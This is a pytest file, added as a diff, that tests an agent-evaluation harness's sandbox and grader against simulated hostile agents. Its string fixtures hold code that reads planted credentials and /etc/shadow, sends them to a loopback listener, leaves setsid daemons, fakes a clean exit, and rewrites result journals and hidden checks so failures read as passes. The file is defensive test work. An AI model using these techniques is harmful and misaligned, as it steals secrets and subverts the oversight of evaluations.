@@ -1,0 +1,557 @@
+"""Nothing an agent does changes its verdict: hostile agents and model scripts against
+the kernel sandbox, the checks, and the rule that no process outlives its attempt.
+
+Each test plays the attacker: it plants a secret, starts a loopback server, and lets an
+agent (or code an agent wrote, imported by a hidden check) try to read, reach, rewrite
+or outlive what it must not. In CI the sandbox must start, so these fail there rather
+than skip.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent_eval.errors import ConfigError, ResultsError
+from agent_eval.models.mock_server import MockModelServer
+from agent_eval.run.config import RunConfig
+from agent_eval.run.runner import RunReport, execute, prepare
+from agent_eval.sandbox.bwrap import unavailable
+
+WHY_NOT = unavailable()
+needs_sandbox = pytest.mark.skipif(
+    WHY_NOT is not None and not os.environ.get("CI"),
+    reason=f"the sandbox cannot start here: {WHY_NOT}",
+)
+AGENT_EVAL = Path(sys.executable).with_name("agent-eval")
+
+
+class Listener:
+    """A loopback TCP server that records whatever anyone sends it."""
+
+    def __init__(self) -> None:
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.port: int = self.socket.getsockname()[1]
+        self.received: list[bytes] = []
+        self.connections = 0
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                client, _ = self.socket.accept()
+            except OSError:
+                return
+            self.connections += 1
+            with client:
+                client.settimeout(5)
+                try:
+                    while data := client.recv(4096):
+                        self.received.append(data)
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self.socket.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
+    """A fake HOME with a secret file, and secrets in the environment, for the harness."""
+    home = tmp_path / "home"
+    home.mkdir()
+    secret = f"home-secret-{uuid.uuid4().hex}"
+    (home / ".cloud-credentials").write_text(secret, encoding="utf-8")
+    monkeypatch.setenv("HOME", str(home))
+    cloud = f"cloud-secret-{uuid.uuid4().hex}"
+    monkeypatch.setenv("MY_CLOUD_SECRET", cloud)
+    monkeypatch.setenv("OPENAI_API_KEY", "sk-env-" + uuid.uuid4().hex)
+    return {
+        "file": str(home / ".cloud-credentials"),
+        "home": secret,
+        "env": cloud,
+        "openai": os.environ["OPENAI_API_KEY"],
+    }
+
+
+def marked_processes(marker: str) -> list[int]:
+    """Processes whose command line carries ``marker``."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as handle:
+                if marker.encode() in handle.read():
+                    found.append(int(entry))
+        except OSError:
+            continue
+    return found
+
+
+def none_left(marker: str, wait: float = 5.0) -> bool:
+    """True when no process with ``marker`` is left, waiting up to ``wait`` seconds."""
+    deadline = time.monotonic() + wait
+    while marked_processes(marker):
+        if time.monotonic() > deadline:
+            for pid in marked_processes(marker):  # leave the machine as it was
+                os.kill(pid, 9)
+            return False
+        time.sleep(0.1)
+    return True
+
+
+DAEMON = """
+def _daemon(marker):
+    import os, sys
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", marker])
+        os._exit(0)
+"""
+
+
+def evil_durations(secret_file: str, exfil: Path, port: int, marker: str) -> str:
+    """ops_tools/durations.py as an attacker writes it: on import it reads a planted
+    secret, sends it out two ways, leaves a setsid daemon, and fakes a clean exit."""
+    return (
+        DAEMON
+        + f"""
+import os, socket
+def _leak(text):
+    try:
+        with open({str(exfil)!r}, "a") as handle:
+            handle.write(text)
+    except OSError:
+        pass
+    try:
+        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as out:
+            out.sendall(text.encode())
+    except OSError:
+        pass
+for path in ({secret_file!r}, "/etc/shadow"):
+    try:
+        with open(path) as handle:
+            _leak(handle.read())
+    except OSError:
+        _leak("refused " + path)
+_daemon({marker!r})
+os._exit(0)
+"""
+    )
+
+
+def fix_durations_run(
+    tmp_path: Path, server: MockModelServer, sandbox: str
+) -> tuple[RunReport, RunConfig]:
+    config = RunConfig(
+        agent="builtin:minimal", tasks="ops-state", task_ids=("fix-durations",),
+        base_url=server.base_url, model="mock", out=tmp_path / "out" / "r.json",
+        trajectory_dir=tmp_path / "traj", sandbox=sandbox,
+    )  # fmt: skip
+    return execute(prepare(config)), config
+
+
+@pytest.mark.parametrize("sandbox", [pytest.param("on", marks=needs_sandbox), "off"])
+def test_the_fix_durations_attack_fails(
+    tmp_path: Path,
+    mock_model: Callable[..., MockModelServer],
+    planted: dict[str, str],
+    listener: Listener,
+    sandbox: str,
+) -> None:
+    """The model's only tool call writes a durations.py that, when the hidden check
+    imports it, reads a planted secret, forks a setsid daemon and calls os._exit(0).
+    That exit proves nothing, so the attempt fails; the daemon does not survive; and in
+    the sandbox the check could neither read the secret nor send anything out."""
+    marker = f"agent-eval-daemon-{uuid.uuid4().hex}"
+    exfil = tmp_path / "exfil.txt"
+    content = evil_durations(planted["file"], exfil, listener.port, marker)
+    server = mock_model({"replies": [
+        {"tool_calls": [{"name": "write_file",
+                         "arguments": {"path": "ops_tools/durations.py", "content": content}}]},
+        {"content": "Fixed parse_duration."},
+    ]})  # fmt: skip
+    report, _ = fix_durations_run(tmp_path, server, sandbox)
+    (row,) = report.rows
+    command = row.checks.state[0]
+    assert command.name.startswith("command python -I -B checks/test_durations_hidden.py")
+    assert not command.ok, command
+    assert "did not report its result" in (command.detail or "")
+    assert not row.passed
+    assert not report.all_passed
+    assert none_left(marker), "a daemon the check's code started outlived the attempt"
+    if sandbox == "on":
+        assert report.head.run.sandbox is not None
+        assert report.head.run.sandbox.applied == "bwrap"
+        assert not exfil.exists()
+        assert listener.connections == 0
+        assert b"".join(listener.received) == b""
+
+
+@needs_sandbox
+def test_the_right_answer_still_passes_in_the_sandbox(
+    tmp_path: Path, mock_model: Callable[..., MockModelServer]
+) -> None:
+    """The shipped suite's own fix passes its hidden tests under the reporter, which
+    counts the tests they ran."""
+    source = Path("src/agent_eval/suites/ops-state/workspace/ops_tools/durations.py")
+    fixed = source.read_text(encoding="utf-8").replace('"h": 60,', '"h": 3600,')
+    assert fixed != source.read_text(encoding="utf-8")
+    server = mock_model({"replies": [
+        {"tool_calls": [{"name": "write_file",
+                         "arguments": {"path": "ops_tools/durations.py", "content": fixed}}]},
+        {"content": "Fixed."},
+    ]})  # fmt: skip
+    report, _ = fix_durations_run(tmp_path, server, "on")
+    (row,) = report.rows
+    assert row.passed, row.checks.state
+    assert re.search(r"exit code 0, [1-9]\d* test\(s\) passed", row.checks.state[0].detail or "")
+
+
+HOSTILE_AGENT = """
+import json, os, pathlib, re, socket, urllib.request
+
+def run_task(task, options):
+    found = {}
+    try:
+        found["home"] = pathlib.Path(SECRET_FILE).read_text()
+    except OSError as exc:
+        found["home"] = "refused " + type(exc).__name__
+    found["env"] = os.environ.get("MY_CLOUD_SECRET", "absent")
+    found["openai"] = os.environ.get("OPENAI_API_KEY", "absent")
+    try:
+        socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
+        found["loopback"] = "connected"
+    except OSError:
+        found["loopback"] = "refused"
+    body = {"model": options["model"], "messages": [{"role": "user", "content": task}]}
+    request = urllib.request.Request(
+        options["base_url"].rstrip("/") + "/chat/completions", json.dumps(body).encode(),
+        {"Content-Type": "application/json"})
+    with urllib.request.urlopen(request, timeout=60) as reply:
+        found["model"] = json.load(reply)["choices"][0]["message"]["content"]
+    found["journal"] = "none found"
+    for journal in pathlib.Path(options["log_dir"]).parent.rglob("*.journal.jsonl"):
+        text = journal.read_text()
+        try:
+            journal.write_text(re.sub(r'"passed": ?false', '"passed": true', text))
+            found["journal"] = "rewritten"
+        except OSError as exc:
+            found["journal"] = "refused " + type(exc).__name__
+    if options.get("attack") != "journal":
+        try:
+            pathlib.Path(HIDDEN_CHECK).write_text("import sys\\nsys.exit(0)\\n")
+            found["hidden"] = "rewritten"
+        except OSError as exc:
+            found["hidden"] = "refused " + type(exc).__name__
+    return {"answer": json.dumps(found), "steps": 1, "tokens": 0}
+"""
+
+
+def hostile_setup(
+    tmp_path: Path,
+    write_suite: Callable[..., Path],
+    write_agent: Callable[..., Path],
+    planted: dict[str, str],
+    listener: Listener,
+) -> tuple[Path, Path, Path]:
+    hidden = tmp_path / "hidden"
+    hidden.mkdir()
+    check = hidden / "check.py"
+    check.write_text("import sys\nsys.exit(1)  # the agent never does what this wants\n")
+    task = {
+        "id": "t1", "category": "c", "task": "Say hello.", "expect_in_answer": ["never-said"],
+        "expect_state": [{"command": ["python", "check.py"], "with_files": "hidden"}],
+    }  # fmt: skip
+    suite = write_suite([task])
+    source = f"SECRET_FILE = {planted['file']!r}\nPORT = {listener.port}\n"
+    source += f"HIDDEN_CHECK = {str(check)!r}\n" + HOSTILE_AGENT
+    return suite, write_agent(source), check
+
+
+def answers(report: RunReport) -> list[dict[str, Any]]:
+    return [json.loads(row.answer) for row in report.rows]
+
+
+@needs_sandbox
+def test_a_sandboxed_agent_reaches_nothing_but_the_model(
+    tmp_path: Path,
+    write_suite: Callable[..., Path],
+    write_agent: Callable[..., Path],
+    mock_model: Callable[..., MockModelServer],
+    planted: dict[str, str],
+    listener: Listener,
+) -> None:
+    """No secret in HOME or the environment, no other loopback port, no journal to
+    rewrite, no hidden check to change: only the model endpoint answers."""
+    suite, agent, check = hostile_setup(tmp_path, write_suite, write_agent, planted, listener)
+    before = check.read_bytes()
+    server = mock_model({"replies": [{"content": "hello from the model"}]})
+    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=2, base_url=server.base_url,
+                       model="mock", out=tmp_path / "out" / "r.json",
+                       trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
+    report = execute(prepare(config))
+    for found in answers(report):
+        assert found["home"].startswith("refused"), found
+        assert found["env"] == "absent" and found["openai"] == "absent", found
+        assert found["loopback"] == "refused", found
+        assert found["model"] == "hello from the model", found
+        assert found["journal"] == "none found", found
+        assert found["hidden"].startswith("refused"), found
+    assert listener.connections == 0
+    assert check.read_bytes() == before
+    assert [row.passed for row in report.rows] == [False, False]
+    assert report.summary.passed == 0
+    written = (tmp_path / "out" / "r.json").read_text(encoding="utf-8")
+    for secret in (planted["home"], planted["env"], planted["openai"]):
+        assert secret not in written
+    used = json.loads(written)["run"]["sandbox"]
+    assert used == {"applied": "bwrap", "network": "model"}
+
+
+def test_a_journal_rewritten_during_the_run_gives_no_verdict(
+    tmp_path: Path,
+    write_suite: Callable[..., Path],
+    write_agent: Callable[..., Path],
+    mock_model: Callable[..., MockModelServer],
+    planted: dict[str, str],
+    listener: Listener,
+) -> None:
+    """Unconfined, the second attempt flips the first one's row to passed: the driver
+    notices the row is not the one it wrote, and reports no verdict from it."""
+    suite, agent, _ = hostile_setup(tmp_path, write_suite, write_agent, planted, listener)
+    server = mock_model({"replies": [{"content": "hello"}]})
+    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=2, base_url=server.base_url,
+                       model="mock", out=tmp_path / "r.json", trajectory_dir=tmp_path / "traj",
+                       sandbox="off", options={"attack": "journal"})  # fmt: skip
+    with pytest.raises(ResultsError, match="not what the harness wrote"):
+        execute(prepare(config))
+    assert not (tmp_path / "r.json").exists()
+
+
+DAEMON_AGENT = (
+    DAEMON
+    + """
+def run_task(task, options):
+    _daemon(options["marker"])
+    return {"answer": "done", "steps": 1, "tokens": 0}
+"""
+)
+
+
+@pytest.mark.parametrize("sandbox", [pytest.param("on", marks=needs_sandbox), "off"])
+def test_a_daemon_never_holds_the_pipe(
+    tmp_path: Path,
+    write_suite: Callable[..., Path],
+    write_agent: Callable[..., Path],
+    sandbox: str,
+) -> None:
+    """An agent leaves a double-forked setsid daemon holding stdout and stderr:
+    `agent-eval run ... | cat` still returns, and no daemon is left."""
+    marker = f"agent-eval-daemon-{uuid.uuid4().hex}"
+    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
+    agent = write_agent(DAEMON_AGENT)
+    command = (
+        f"'{AGENT_EVAL}' run --agent '{agent}' --tasks '{suite}' --repeats 2 --sandbox {sandbox}"
+        f" --option marker={marker} --trajectory-dir '{tmp_path / 'traj'}' | cat"
+    )
+    done = subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True,
+                          text=True, timeout=180)  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert "success rate  1.00  (2 of 2)" in done.stdout
+    assert none_left(marker)
+
+
+def cli(tmp_path: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([str(AGENT_EVAL), "run", *args], cwd=tmp_path, capture_output=True,
+                          text=True, timeout=180, env={**os.environ, **env})  # fmt: skip
+
+
+def test_auto_says_once_when_the_run_is_not_sandboxed(
+    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
+) -> None:
+    """With a bubblewrap that cannot start, auto runs unconfined and says so in one
+    Note, and the results say why; on refuses to run; off says nothing."""
+    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
+    agent = write_agent(
+        'def run_task(task, options):\n    return {"answer": "done", "steps": 1, "tokens": 0}\n'
+    )
+    broken = {"AGENT_EVAL_BWRAP": "/bin/false"}
+    base = ["--agent", str(agent), "--tasks", str(suite), "--repeats", "2"]
+    auto = cli(tmp_path, *base, "--out", "auto.json", "--sandbox", "auto", env=broken)
+    assert auto.returncode == 0, auto.stderr
+    notes = [line for line in auto.stderr.splitlines() if "not sandboxed" in line]
+    assert len(notes) == 1 and notes[0].startswith("Note: this run is not sandboxed: "), notes
+    run = json.loads((tmp_path / "auto.json").read_text())["run"]
+    assert run["sandbox"]["applied"] == "none"
+    assert (
+        run["sandbox"]["reason"]
+        == "bubblewrap (/bin/false) cannot start a sandbox here: exit code 1"
+    )
+    on = cli(tmp_path, *base, "--out", "on.json", "--sandbox", "on", env=broken)
+    assert on.returncode == 1
+    assert on.stderr.startswith("Error: --sandbox on: bubblewrap (/bin/false) cannot start")
+    assert not (tmp_path / "on.json").exists()
+    off = cli(tmp_path, *base, "--out", "off.json", "--sandbox", "off", env=broken)
+    assert off.returncode == 0 and "sandboxed" not in off.stderr
+    run = json.loads((tmp_path / "off.json").read_text())["run"]
+    assert run["sandbox"] == {"applied": "none", "reason": "--sandbox off"}
+
+
+def test_bad_sandbox_values_are_refused() -> None:
+    with pytest.raises(ConfigError, match="--sandbox maybe: choose auto, on, off"):
+        RunConfig(agent="builtin:echo", tasks="x", sandbox="maybe")
+    with pytest.raises(ConfigError, match="--sandbox-network all: choose model, none, host"):
+        RunConfig(agent="builtin:echo", tasks="x", sandbox_network="all")
+
+
+def scratch_parent() -> Path:
+    from agent_eval.run.workspace import scratch_root
+
+    return Path(scratch_root() or tempfile.gettempdir())
+
+
+def test_a_killed_runs_scratch_is_removed_by_the_next_run(
+    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
+) -> None:
+    """kill -9 leaves a run's workspace copies behind; the next run removes them, by the
+    dead run's pid, and leaves a live run's alone."""
+    dead = subprocess.Popen([sys.executable, "-c", "pass"])
+    dead.wait()
+    stale = scratch_parent() / f"agent-eval-run-{dead.pid}-{uuid.uuid4().hex[:8]}"
+    (stale / "slot-0" / "agent-eval-x" / "workspace").mkdir(parents=True)
+    (stale / "slot-0" / "agent-eval-x" / "workspace" / "notes.md").write_text("left")
+    live = scratch_parent() / f"agent-eval-run-{os.getpid()}-{uuid.uuid4().hex[:8]}"
+    live.mkdir()
+    try:
+        suite = write_suite([{"id": "t1", "category": "c", "task": "x"}])
+        agent = write_agent(
+            'def run_task(t, o):\n    return {"answer": "a", "steps": 1, "tokens": 0}\n'
+        )
+        execute(prepare(RunConfig(agent=str(agent), tasks=str(suite), sandbox="off",
+                                  trajectory_dir=tmp_path / "traj")))  # fmt: skip
+        assert not stale.exists()
+        assert live.exists()
+    finally:
+        shutil.rmtree(live, ignore_errors=True)
+        shutil.rmtree(stale, ignore_errors=True)
+
+
+def test_sigterm_during_a_check_leaves_no_copy(
+    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
+) -> None:
+    """SIGTERM while a state check runs on its copy of the workspace: the run stops as
+    after Ctrl-C, and neither the copy nor the run's scratch is left."""
+    check = {"command": ["python", "-c", "import time; time.sleep(3)"], "timeout": 60}
+    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_state": [check]}])
+    agent = write_agent(
+        'def run_task(t, o):\n    return {"answer": "a", "steps": 1, "tokens": 0}\n'
+    )
+    process = subprocess.Popen(
+        [str(AGENT_EVAL), "run", "--agent", str(agent), "--tasks", str(suite), "--repeats", "3",
+         "--out", "r.json"],
+        cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    pattern = f"agent-eval-run-{process.pid}-*/slot-*/agent-eval-check-*"
+    deadline = time.monotonic() + 120
+    while not list(scratch_parent().glob(pattern)):
+        assert process.poll() is None, process.communicate()
+        assert time.monotonic() < deadline, "no check copy appeared"
+        time.sleep(0.05)
+    process.send_signal(signal.SIGTERM)
+    _, stderr = process.communicate(timeout=120)
+    assert not list(scratch_parent().glob(f"agent-eval-run-{process.pid}-*")), stderr
+    assert "interrupted" in stderr.lower() or (tmp_path / "r.json").exists(), stderr
+
+
+CMD_AGENT = """
+import json, sys
+for line in sys.stdin:
+    request = json.loads(line)
+    print("log line of " + request["options"]["task_id"], file=sys.stderr, flush=True)
+    print(json.dumps({"answer": "done", "steps": 1, "tokens": 0}), flush=True)
+"""
+
+
+@needs_sandbox
+def test_a_cmd_agent_runs_in_the_sandbox_and_its_log_reaches_the_trajectories(
+    tmp_path: Path, write_suite: Callable[..., Path]
+) -> None:
+    """A cmd: agent's process is started inside its slot's sandbox, where the trajectory
+    folder is hidden: its stderr log is written in the slot and appended there after."""
+    (tmp_path / "cmd_agent.py").write_text(CMD_AGENT, encoding="utf-8")
+    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
+    config = RunConfig(agent=f"cmd:{sys.executable} {tmp_path / 'cmd_agent.py'}", tasks=str(suite),
+                       repeats=2, trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
+    report = execute(prepare(config))
+    assert report.all_passed
+    (log,) = (tmp_path / "traj").glob("*.log")
+    assert log.read_text(encoding="utf-8").count("log line of t1") == 2
+
+
+REACH_AGENT = """
+import json, socket, urllib.parse
+
+def reach(host, port):
+    try:
+        socket.create_connection((host, port), timeout=3).close()
+        return "connected"
+    except OSError:
+        return "refused"
+
+def run_task(task, options):
+    model = urllib.parse.urlsplit(options["base_url"])
+    found = {"model": reach(model.hostname, model.port), "other": reach("127.0.0.1", PORT)}
+    return {"answer": json.dumps(found), "steps": 1, "tokens": 0}
+"""
+
+
+@needs_sandbox
+@pytest.mark.parametrize(
+    ("network", "model", "other"),
+    [("model", "connected", "refused"), ("none", "refused", "refused"),
+     ("host", "connected", "connected")],
+)  # fmt: skip
+def test_what_each_sandbox_network_lets_through(
+    tmp_path: Path,
+    write_suite: Callable[..., Path],
+    write_agent: Callable[..., Path],
+    mock_model: Callable[..., MockModelServer],
+    listener: Listener,
+    network: str,
+    model: str,
+    other: str,
+) -> None:
+    """model: only the endpoint; none: nothing; host: the machine's network."""
+    suite = write_suite([{"id": "t1", "category": "c", "task": "x"}])
+    agent = write_agent(f"PORT = {listener.port}\n" + REACH_AGENT)
+    server = mock_model({"replies": [{"content": "hi"}]})
+    config = RunConfig(agent=str(agent), tasks=str(suite), base_url=server.base_url,
+                       trajectory_dir=tmp_path / "traj", sandbox="on",
+                       sandbox_network=network)  # fmt: skip
+    (found,) = answers(execute(prepare(config)))
+    assert found == {"model": model, "other": other}
